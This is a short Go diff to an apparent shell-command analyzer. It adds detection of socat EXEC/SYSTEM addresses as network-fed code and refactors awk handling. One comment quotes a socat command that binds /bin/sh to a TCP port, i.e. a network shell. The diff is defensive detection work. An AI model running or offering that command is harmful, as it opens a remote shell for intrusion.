@@ -187,6 +187,12 @@ func (inv *invocation) finishSpecial(e *effects.Program) {
 			case strings.HasPrefix(o.value, "/") || strings.HasPrefix(o.value, "."):
 				rest, _, _ = strings.Cut(o.value, ",")
 				inv.w.noteReadField(inv.at, field{value: rest, glob: o.glob})
+			case ok && (strings.EqualFold(typ, "EXEC") || strings.EqualFold(typ, "SYSTEM")):
+				// The program (EXEC:) or shell command (SYSTEM:) reads the
+				// other address: `socat TCP:h:4444 EXEC:/bin/sh` is a shell
+				// fed by the network.
+				cmd, _, _ := strings.Cut(rest, ",") // then socat's options
+				inv.w.codeValue(fedCode(cmd), false, inv.at, inv.depth, inv.carried())
 			}
 		}
 	case "wget":
@@ -2051,7 +2057,7 @@ func (inv *invocation) awkProgram(s string) {
 		case m[2] != "":
 			inv.w.codeValue(unq.Replace(m[2]), false, inv.at, inv.depth, inv.carried())
 		case m[3] != "":
-			inv.w.codeValue(": | {\n"+unq.Replace(m[3])+"\n}", false, inv.at, inv.depth, inv.carried())
+			inv.w.codeValue(fedCode(unq.Replace(m[3])), false, inv.at, inv.depth, inv.carried())
 		}
 	}
 	if len(awkSystem().FindAllStringIndex(s, -1)) > literal {
